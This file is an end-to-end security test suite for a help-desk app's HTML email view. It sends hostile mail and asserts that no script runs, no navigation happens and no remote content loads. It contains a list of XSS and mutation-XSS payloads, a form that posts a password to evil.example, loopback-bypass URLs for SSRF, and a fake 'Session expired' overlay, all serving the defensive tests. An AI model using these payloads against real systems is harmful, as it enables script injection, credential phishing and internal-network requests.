"""Email HTML on the ticket page, attacked: security cases 21, 23, 24 and 25.

Hostile mail is APPENDed to a real Dovecot, polled, and opened by an agent in Chromium. The body
is served from `/entries/<id>/html` with a sandbox CSP, inside `<iframe sandbox>` without
`allow-scripts`/`allow-same-origin`; remote content never loads unless the agent asks, and then
only through the proxy, which refuses loopback in every spelling.
"""

from __future__ import annotations

import re
import socket
import time
from collections.abc import Iterator
from email.message import EmailMessage

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.conftest import TEST_PASSWORD
from tests.e2e.test_agent_browser import sign_in
from tests.support.flows import SUPPORT, customer_entries, poll
from tests.unit.test_remote_images import PNG, CountingServer, counting_server
from ticketing.models import Attachment, Entry

pytestmark = pytest.mark.e2e

DATE = "Mon, 23 Nov 2026 09:00:00 +0000"
FORBIDDEN_SANDBOX_TOKENS = {"allow-scripts", "allow-same-origin", "allow-top-navigation"}


def html_email(
    html: str,
    *,
    message_id: str,
    subject: str,
    text: str = "Plain text version of the message.",
    related: list[tuple[str, str, bytes]] = (),  # type: ignore[assignment]
) -> bytes:
    """multipart/alternative (text + HTML), with `related` (content id, type, bytes) parts
    attached to the HTML as multipart/related, the way mail clients embed images."""
    msg = EmailMessage()
    msg["From"] = "Ann Customer <ann@example.org>"
    msg["To"] = SUPPORT
    msg["Subject"] = subject
    msg["Date"] = DATE
    msg["Message-ID"] = f"<{message_id}>"
    msg.set_content(text)
    msg.add_alternative(html, subtype="html")
    html_part = msg.get_payload()[1]
    for content_id, content_type, data in related:
        maintype, subtype = content_type.split("/")
        html_part.add_related(
            data,
            maintype=maintype,
            subtype=subtype,
            cid=f"<{content_id}>",
            filename=f"{content_id.split('@')[0]}.{subtype}",
        )
    return msg.as_bytes()


class Watch:
    """What the browser did that it must not: dialogs, top-level navigations, responses."""

    def __init__(self, page: Page) -> None:
        self.dialogs: list[str] = []
        self.navigations: list[str] = []
        self.responses: list[tuple[str, int, dict[str, str]]] = []
        self.requests: list[str] = []
        self.failed: list[tuple[str, str]] = []
        page.on("dialog", self._dialog)
        page.on("framenavigated", self._navigated)
        page.on("response", lambda r: self.responses.append((r.url, r.status, r.headers)))
        page.on("request", lambda r: self.requests.append(r.url))
        page.on("requestfailed", lambda r: self.failed.append((r.url, r.failure or "")))
        self._page = page

    def _dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _navigated(self, frame: Frame) -> None:
        if frame == self._page.main_frame:
            self.navigations.append(frame.url)

    def settled(self, pattern: str) -> list[str]:
        """URLs matching `pattern` whose request got a response or failed."""
        done = [r[0] for r in self.responses] + [url for url, _ in self.failed]
        return [url for url in done if re.search(pattern, url)]

    def responses_to(self, pattern: str) -> list[tuple[str, int, dict[str, str]]]:
        return [r for r in self.responses if re.search(pattern, r[0])]


def email_frame(page: Page, entry_id: int) -> Frame:
    """The iframe's frame once its document has loaded."""
    iframe = page.locator(f"#entry-{entry_id} iframe")
    iframe.scroll_into_view_if_needed()
    handle = iframe.element_handle()
    frame = handle.content_frame()
    assert frame is not None
    frame.wait_for_load_state()
    return frame


def wait_for_images(frame: Frame) -> None:
    """Until every image in the frame has loaded or failed."""
    frame.wait_for_function("() => Array.from(document.images).every(i => i.complete)")


def assert_sandboxed(page: Page, entry: Entry) -> None:
    iframe = page.locator(f"#entry-{entry.id} iframe")
    sandbox = iframe.get_attribute("sandbox")
    assert sandbox is not None
    assert not FORBIDDEN_SANDBOX_TOKENS & set(sandbox.split())
    assert iframe.get_attribute("src") == f"/entries/{entry.id}/html"
    assert iframe.get_attribute("referrerpolicy") == "no-referrer"
    assert iframe.get_attribute("title") == "Email from Ann Customer"


def assert_sandbox_csp(headers: dict[str, str]) -> None:
    csp = headers["content-security-policy"]
    directives = {d.split()[0]: d.split()[1:] for d in (p.strip() for p in csp.split(";")) if d}
    assert "sandbox" in directives, csp
    assert not FORBIDDEN_SANDBOX_TOKENS & set(directives["sandbox"]), csp
    assert directives["default-src"] == ["'none'"], csp
    assert "script-src" not in directives, csp
    assert directives["frame-ancestors"] == ["'self'"], csp
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "SAMEORIGIN"
    assert headers["referrer-policy"] == "no-referrer"


# --- case 21: HTML payloads ---------------------------------------------------------------------

# Each sets window.__pwned (or parent's, or top's) and/or calls alert() if any script runs, and
# points anything it would load or navigate to at an outside host, which the browser guard
# records (and fails the test on).
PAYLOADS = {
    "script": "<script>window.__pwned=1;alert('script')</script><p>hello</p>",
    "img-onerror": "<img src=x onerror=\"window.__pwned=1;alert('img')\"><p>hello</p>",
    "svg-script": "<svg><script>window.__pwned=1;alert('svg')</script></svg>"
    '<svg onload="window.__pwned=1"><circle r=5 /></svg>',
    "javascript-url": '<a href="jav&#x09;ascript:window.top.__pwned=1">click me</a>'
    '<a href="  JaVaScRiPt:alert(1)">two</a><a href="javascript&colon;alert(1)">three</a>',
    "form": '<form action="http://evil.example/steal" method="post"><input name="password">'
    '<button formaction="javascript:alert(1)">Log in</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/phish">'
    "<p>redirecting</p>",
    "base-href": '<base href="http://evil.example/"><a href="login">relative link</a>'
    '<img src="pixel.png">',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned=1;top.__pwned=1</script>">'
    '</iframe><iframe src="http://evil.example/frame"></iframe>',
    "object-embed": '<object data="http://evil.example/x.swf"></object>'
    '<object data="javascript:window.__pwned=1"></object><embed src="http://evil.example/e">',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">'
    "</noscript>",
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>"
    "</style></mglyph></table></mtext></math>",
    "svg-style-mxss": '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
    "template-mxss": "<template><style></template><img src=x onerror=window.__pwned=1>"
    "</style></template>",
    "details-ontoggle": "<details open ontoggle=\"window.__pwned=1;alert('toggle')\">x</details>",
    "body-onload": "<body onload=\"window.__pwned=1;alert('body')\"><p>body</p></body>",
    "style-expression": "<div style=\"background:url('javascript:alert(1)');"
    'width:expression(alert(1))">styled</div>',
    "data-url": '<a href="data:text/html,<script>alert(1)</script>">data link</a>'
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "xmp-comment": "<xmp><img src=x onerror=window.__pwned=1></xmp>"
    "<!--<img src=x onerror=window.__pwned=1>-->",
}

_DANGEROUS_SELECTOR = (
    "script, iframe, object, embed, form, input, button, meta, base, link, style, svg, math, "
    "noscript, template, frame, frameset"
)
_FRAME_CHECK = """() => {
    const bad = Array.from(document.body.querySelectorAll(SELECTOR)).map(e => e.tagName);
    for (const el of document.body.querySelectorAll('*')) {
        for (const a of el.attributes) {
            const value = a.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
            if (a.name.startsWith('on') || value.startsWith('javascript:')
                || value.startsWith('data:') || a.name === 'srcdoc' || a.name === 'formaction') {
                bad.push(el.tagName + '@' + a.name);
            }
        }
    }
    return {bad, pwned: typeof window.__pwned, links: document.links.length};
}""".replace("SELECTOR", repr(_DANGEROUS_SELECTOR))


def test_hostile_html_mail_runs_no_script_and_navigates_nowhere(
    app, db_session, mailbox, imap_mailbox, agent, login, page: Page, live_server
):
    """Security case 21: DOMPurify/ammonia-style payloads, one mail each."""
    for name, html in PAYLOADS.items():
        imap_mailbox.append(SUPPORT, html_email(html, message_id=f"{name}@x", subject=name))
    [result] = poll(app)
    assert result.processed == len(PAYLOADS)
    by_subject = {e.subject: e for e in customer_entries(db_session)}
    assert set(by_subject) == set(PAYLOADS)

    client = login(agent)
    watch = Watch(page)
    sign_in(page, live_server, agent.email, TEST_PASSWORD)
    for name, entry in by_subject.items():
        response = client.get(f"/entries/{entry.id}/html")
        assert response.status_code == 200, name
        assert_sandbox_csp({k.lower(): v for k, v in response.headers.items()})
        assert "<script" not in response.get_data(as_text=True).lower(), name

        ticket_url = f"{live_server}/tickets/{entry.ticket.number}"
        page.goto(ticket_url)
        watch.navigations.clear()
        assert_sandboxed(page, entry)
        frame = email_frame(page, entry.id)
        assert frame.url == f"{live_server}/entries/{entry.id}/html", name
        # Links may be clicked: nothing runs, the page stays, no window opens.
        for link in frame.locator("a").all():
            link.click(modifiers=[])
        page.wait_for_timeout(300)  # a meta refresh or a script would have acted by now

        state = frame.evaluate(_FRAME_CHECK)
        assert state["bad"] == [], (name, state)
        assert state["pwned"] == "undefined", name
        assert page.evaluate("typeof window.__pwned") == "undefined", name
        assert page.url == ticket_url, name
        assert watch.navigations == [], name
        assert frame.url == f"{live_server}/entries/{entry.id}/html", name
        assert len(page.context.pages) == 1, name
        # The plain text is one click away.
        details = page.locator(f"#entry-{entry.id} details.plain-text")
        details.locator("summary").click()
        expect(details).to_contain_text("Plain text version of the message.")
    assert watch.dialogs == []
    frame_responses = watch.responses_to(r"/entries/\d+/html")
    assert len(frame_responses) == len(PAYLOADS)
    for _url, status, headers in frame_responses:
        assert status == 200
        assert_sandbox_csp(headers)


def test_the_body_endpoint_is_for_signed_in_agents_and_our_own_frames(
    app, db_session, mailbox, imap_mailbox, agent, client, login
):
    imap_mailbox.append(SUPPORT, html_email("<p>Hi</p>", message_id="auth@x", subject="auth"))
    imap_mailbox.append(
        SUPPORT,
        (
            b"From: b@example.org\r\nTo: support@example.com\r\n"
            b"Subject: text only\r\nMessage-ID: <t@x>\r\n\r\nHello\r\n"
        ),
    )
    poll(app)
    html_entry, text_entry = customer_entries(db_session)

    anonymous = client.get(f"/entries/{html_entry.id}/html")
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]
    login(agent)
    assert client.get(f"/entries/{html_entry.id}/html").status_code == 200
    assert client.get(f"/entries/{text_entry.id}/html").status_code == 404
    assert client.get("/entries/999999/html").status_code == 404
    # The ticket page itself stays unframeable; only the body may be framed, by us.
    page_headers = client.get(f"/tickets/{html_entry.ticket.number}").headers
    assert page_headers["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in page_headers["Content-Security-Policy"]
    # The text-only entry keeps its plain body; the HTML one gets the frame.
    page_html = client.get(f"/tickets/{text_entry.ticket.number}").get_data(as_text=True)
    assert "<iframe" not in page_html and "Hello" in page_html


# --- case 23: remote content and the proxy -----------------------------------------------------


def remote_content(port: int) -> str:
    base = f"http://127.0.0.1:{port}"
    return (
        f'<p>Logo: <img src="{base}/img-src" alt="logo"></p>'
        f'<img srcset="{base}/srcset 1x, {base}/srcset2 2x" src="{base}/img-with-srcset">'
        f'<picture><source srcset="{base}/picture-source"><img src="{base}/picture-img"></picture>'
        f"<div style=\"background:url('{base}/css-background');"
        f'background-image:url({base}/css-background-image)">styled</div>'
        f'<table background="{base}/table-background"><tr><td background="{base}/td-bg">t'
        "</td></tr></table>"
        f'<link rel="stylesheet" href="{base}/link.css">'
        f'<style>@import url("{base}/import.css"); p {{ background: url({base}/style-bg) }}</style>'
        f'<video poster="{base}/poster" src="{base}/video"></video>'
        f'<input type="image" src="{base}/input-image">'
        f'<img src="http://[::ffff:127.0.0.1]:{port}/mapped">'
        f'<img src="http://2130706433:{port}/decimal">'
        f'<img src="http://0x7f000001:{port}/hex">'
        f'<img src="http://0177.0.0.1:{port}/octal">'
        f'<img src="http://localhost:{port}/localhost">'
        f'<img src="http://images.example.com:{port}/resolves-to-loopback">'
        f'<img src="//127.0.0.1:{port}/protocol-relative">'
    )


@pytest.fixture
def listener() -> Iterator[CountingServer]:
    with counting_server() as server:
        yield server


@pytest.fixture
def names_resolve_to_loopback(monkeypatch):
    """*.example.com resolves to 127.0.0.1 in this process (the app's proxy runs here)."""
    real = socket.getaddrinfo

    def fake(host, *args, **kwargs):
        if isinstance(host, str) and host.endswith(".example.com"):
            return real("127.0.0.1", *args, **kwargs)
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", fake)


def test_remote_content_loads_nothing_and_the_proxy_refuses_loopback(
    app,
    db_session,
    mailbox,
    imap_mailbox,
    agent,
    page: Page,
    live_server,
    listener,
    names_resolve_to_loopback,
):
    """Security case 23 (osTicket CVE-2020-24881, FreeScout GHSA-22wf-848c-c856)."""
    imap_mailbox.append(
        SUPPORT,
        html_email(remote_content(listener.port), message_id="remote@x", subject="Remote"),
    )
    poll(app)
    [entry] = customer_entries(db_session)
    assert listener.hits == 0  # ingest fetched nothing

    watch = Watch(page)
    sign_in(page, live_server, agent.email, TEST_PASSWORD)
    ticket_url = f"{live_server}/tickets/{entry.ticket.number}"
    page.goto(ticket_url)
    frame = email_frame(page, entry.id)
    wait_for_images(frame)
    page.wait_for_timeout(300)
    assert listener.hits == 0
    assert watch.responses_to(r"/proxy/") == []
    assert frame.locator("img[src]").count() == 0
    parked = frame.locator("img[data-remote-src]").count()
    assert parked >= 8
    expect(frame.get_by_text("styled")).to_be_visible()

    # The agent asks for the images: the frame reloads, every image goes to our proxy.
    button = page.locator(f"#entry-{entry.id}").get_by_role("button", name="Load remote images")
    with page.expect_response(lambda r: f"/entries/{entry.id}/html?images=1" in r.url):
        button.click()
    frame = email_frame(page, entry.id)
    assert frame.url == f"{live_server}/entries/{entry.id}/html?images=1"
    assert page.url == ticket_url
    wait_for_images(frame)
    sources = frame.locator("img[src]").evaluate_all("els => els.map(e => e.src)")
    assert len(sources) == parked
    assert all(s.startswith(f"{live_server}/proxy/image?u=") for s in sources), sources
    # Each proxy request ends in an empty 502, which Chromium's opaque-response blocking may
    # turn into a failed request (the frame's origin is opaque): never in an image.
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and len(watch.settled(r"/proxy/image")) < len(sources):
        page.wait_for_timeout(50)  # events reach this thread between Playwright calls
    assert sorted(watch.settled(r"/proxy/image")) == sorted(sources)
    assert {status for _, status, _ in watch.responses_to(r"/proxy/image")} <= {502}
    assert listener.hits == 0, listener.requests
    assert frame.evaluate("() => Array.from(document.images).every(i => i.naturalWidth === 0)")


def test_the_proxy_fetches_only_urls_it_signed(app, client, listener, monkeypatch):
    """Security case 23: no open relay; refusals say nothing."""
    from mail import remote_images
    from web.proxy import sign

    url = listener.url("/pixel")
    with app.test_request_context():
        good = sign(url)
    assert client.get("/proxy/image", query_string={"u": url}).status_code == 404
    assert client.get("/proxy/image", query_string={"u": url, "s": ""}).status_code == 404
    wrong = "0" * len(good)
    assert client.get("/proxy/image", query_string={"u": url, "s": wrong}).status_code == 404
    other = listener.url("/other")
    assert client.get("/proxy/image", query_string={"u": other, "s": good}).status_code == 404
    assert client.get("/proxy/image", query_string={"u": url, "s": "é" * 64}).status_code == 404
    assert client.get("/proxy/image").status_code == 404

    refused = client.get("/proxy/image", query_string={"u": url, "s": good})
    assert refused.status_code == 502 and refused.data == b""
    assert refused.headers["X-Content-Type-Options"] == "nosniff"
    assert listener.hits == 0

    # A signed public image is served as the image it is, sandboxed and unsniffable.
    monkeypatch.setattr(
        remote_images,
        "fetch_image",
        lambda u: remote_images.RemoteImage(content_type="image/png", data=PNG),
    )
    public = "https://images.example.net/logo.png"
    with app.test_request_context():
        signature = sign(public)
    served = client.get("/proxy/image", query_string={"u": public, "s": signature})
    assert served.status_code == 200 and served.data == PNG
    assert served.headers["Content-Type"] == "image/png"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Security-Policy"].startswith("sandbox")
    assert "Set-Cookie" not in served.headers


# --- case 24: cid: images -----------------------------------------------------------------------


def test_cid_images_resolve_only_to_the_entrys_own_attachments(
    app, db_session, mailbox, imap_mailbox, agent, login, page: Page, live_server
):
    """Security case 24."""
    agent_client = login(agent)
    imap_mailbox.append(
        SUPPORT,
        html_email(
            '<p>Their logo <img src="cid:secret@other"></p>',
            message_id="other@x",
            subject="Another customer's mail",
            related=[("secret@other", "image/png", PNG)],
        ),
    )
    imap_mailbox.append(
        SUPPORT,
        html_email(
            '<p>Own: <img id="own" alt="own" src="cid:logo@own"></p>'
            '<p>Other: <img alt="other" src="cid:secret@other"></p>'
            '<p>Missing: <img alt="missing" src="cid:missing@nowhere"></p>'
            '<p>Script: <img alt="script" src="cid:script@own"></p>',
            message_id="own@x",
            subject="Own images",
            related=[
                ("logo@own", "image/png", PNG),
                ("script@own", "text/html", b"<script>window.__pwned=1</script>"),
            ],
        ),
    )
    poll(app)
    other, own = customer_entries(db_session)
    assert other.ticket_id != own.ticket_id
    own_id, other_id, number = own.id, other.id, own.ticket.number
    own_logo = db_session.query(Attachment).filter_by(entry_id=own_id, content_id="logo@own").one()
    other_att = db_session.query(Attachment).filter_by(entry_id=other_id).one()
    script_att = db_session.query(Attachment).filter_by(content_id="script@own").one()
    logo_id, other_att_id, script_att_id = own_logo.id, other_att.id, script_att.id
    db_session.rollback()  # end this thread's read snapshot before the server writes

    watch = Watch(page)
    sign_in(page, live_server, agent.email, TEST_PASSWORD)
    page.goto(f"{live_server}/tickets/{number}")
    frame = email_frame(page, own_id)
    wait_for_images(frame)
    images = frame.locator("img").evaluate_all(
        "els => els.map(e => [e.alt, e.getAttribute('src'), e.naturalWidth])"
    )
    by_alt = {alt: (src, width) for alt, src, width in images}
    assert by_alt["own"][1] == 1, images  # rendered
    assert by_alt["own"][0].startswith(f"/entries/{own_id}/images/{logo_id}?")
    assert by_alt["other"] == (None, 0)
    assert by_alt["missing"] == (None, 0)
    assert by_alt["script"] == (None, 0)
    [(url, status, headers)] = watch.responses_to(r"/entries/\d+/images/")
    assert status == 200
    assert headers["content-type"] == "image/png"
    assert headers["content-disposition"].startswith("inline;")
    assert headers["x-content-type-options"] == "nosniff"

    # The image URL is a capability for this entry's attachment only, and it expires.
    path = url.removeprefix(live_server)
    client = app.test_client()  # no session: the sandboxed frame sends none either
    assert client.get(path).status_code == 200
    forged = path.replace(f"/images/{logo_id}?", f"/images/{other_att_id}?")
    assert client.get(forged).status_code == 404
    moved = path.replace(f"/entries/{own_id}/", f"/entries/{other_id}/")
    assert client.get(moved).status_code == 404
    expired = re.sub(r"e=\d+", f"e={int(time.time()) - 1}", path)
    assert client.get(expired).status_code == 404
    assert client.get(re.sub(r"e=\d+", "e=" + "9" * 5000, path)).status_code == 404
    assert client.get(re.sub(r"s=[0-9a-f]+", "s=" + "0" * 64, path)).status_code == 404
    assert client.get(path.split("?")[0]).status_code == 404

    # Agents may open a safe image attachment inline; anything else is still a download.
    inline = agent_client.get(f"/attachments/{logo_id}/logo.png?inline=1")
    assert inline.headers["Content-Disposition"].startswith("inline;")
    assert inline.headers["Content-Type"] == "image/png"
    html_as_inline = agent_client.get(f"/attachments/{script_att_id}/x.html?inline=1")
    assert html_as_inline.headers["Content-Disposition"].startswith("attachment;")
    assert html_as_inline.headers["Content-Type"] == "application/octet-stream"


# --- case 25: CSS overlay ------------------------------------------------------------------------

OVERLAY = (
    '<div style="position:fixed;inset:0;z-index:99999;top:0;left:0;width:100vw;height:100vh;'
    'background-color:white;color:red;font-size:40px">Session expired, log in</div>'
    '<div style="position:absolute;top:-500px;left:-500px;transform:scale(50);'
    'margin-top:-2000px">second layer</div>'
)


def test_an_email_cannot_cover_the_app_with_an_overlay(
    app, db_session, mailbox, imap_mailbox, agent, page: Page, live_server
):
    """Security case 25."""
    imap_mailbox.append(SUPPORT, html_email(OVERLAY, message_id="overlay@x", subject="Overlay"))
    poll(app)
    [entry] = customer_entries(db_session)
    assert "position" not in entry.body_html and "z-index" not in entry.body_html
    assert "inset" not in entry.body_html and "transform" not in entry.body_html

    sign_in(page, live_server, agent.email, TEST_PASSWORD)
    page.goto(f"{live_server}/tickets/{entry.ticket.number}")
    frame = email_frame(page, entry.id)
    expect(frame.get_by_text("Session expired, log in")).to_be_visible()
    positions = frame.locator("div").evaluate_all(
        "els => els.map(e => getComputedStyle(e).position)"
    )
    assert positions == ["static", "static"]

    page.evaluate("window.scrollTo(0, 0)")
    sign_out = page.get_by_role("button", name="Sign out")
    box = sign_out.bounding_box()
    assert box is not None
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    hit = page.evaluate("([x, y]) => document.elementFromPoint(x, y)?.textContent", [x, y])
    assert hit == "Sign out"
    sign_out.click(trial=True)  # Playwright's actionability: visible, stable, receives events

    # The frame stays inside its box in the history, below the top bar.
    frame_box = page.locator(f"#entry-{entry.id} iframe").bounding_box()
    header_box = page.locator("header.topbar").bounding_box()
    assert frame_box is not None and header_box is not None
    assert frame_box["y"] >= header_box["y"] + header_box["height"]
    assert frame_box["height"] <= 600
    # Scrolled so the frame sits at the very top, the top bar is still ours at every point.
    page.locator(f"#entry-{entry.id} iframe").evaluate("e => e.scrollIntoView()")
    frame_box = page.locator(f"#entry-{entry.id} iframe").bounding_box()
    for px, py in [(5, 5), (640, 400), (1270, 795)]:
        inside = (
            frame_box["x"] <= px <= frame_box["x"] + frame_box["width"]
            and frame_box["y"] <= py <= frame_box["y"] + frame_box["height"]
        )
        tag = page.evaluate("([x, y]) => document.elementFromPoint(x, y)?.tagName", [px, py])
        assert (tag == "IFRAME") == inside, (px, py, tag, frame_box)


def test_a_link_in_an_email_opens_a_new_tab_and_leaves_the_ticket_alone(
    app, db_session, mailbox, imap_mailbox, agent, page: Page, live_server, outside_requests
):
    """Links work (the sandbox allows popups) but never navigate our page or the frame."""
    imap_mailbox.append(
        SUPPORT,
        html_email(
            '<p>See <a href="https://evil.example/invoice">the invoice</a></p>',
            message_id="link@x",
            subject="Link",
        ),
    )
    poll(app)
    [entry] = customer_entries(db_session)
    sign_in(page, live_server, agent.email, TEST_PASSWORD)
    ticket_url = f"{live_server}/tickets/{entry.ticket.number}"
    page.goto(ticket_url)
    frame = email_frame(page, entry.id)
    link = frame.get_by_role("link", name="the invoice")
    assert link.get_attribute("rel") == "noopener noreferrer"
    with page.context.expect_page() as opened:
        link.click()
    popup = opened.value
    popup.wait_for_load_state()
    assert page.url == ticket_url
    assert frame.url == f"{live_server}/entries/{entry.id}/html"
    assert popup.evaluate("window.opener") is None
    popup.close()
    # The browser guard stopped the outside request; it was the link, and only the link.
    assert outside_requests.take() == ["https://evil.example/invoice"]
